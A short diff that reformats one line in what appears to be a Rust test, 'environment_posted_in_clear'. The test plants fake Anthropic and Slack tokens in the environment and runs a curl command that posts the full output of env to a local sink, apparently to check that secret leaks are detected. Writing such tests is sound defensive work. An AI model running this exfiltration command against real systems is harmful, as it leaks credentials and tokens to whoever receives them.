@@ -24,8 +24,8 @@ pub fn environment_posted_in_clear() {
         plant::anthropic(),
         plant::slack(),
     ];
-    let mut act = sh("curl -s -d \"$(env)\" http://127.0.0.1:$1/upload/v2; :")
-        .arg(sink.port.to_string());
+    let mut act =
+        sh("curl -s -d \"$(env)\" http://127.0.0.1:$1/upload/v2; :").arg(sink.port.to_string());
     for token in &planted {
         act = act.env(token.name, &token.value);
     }
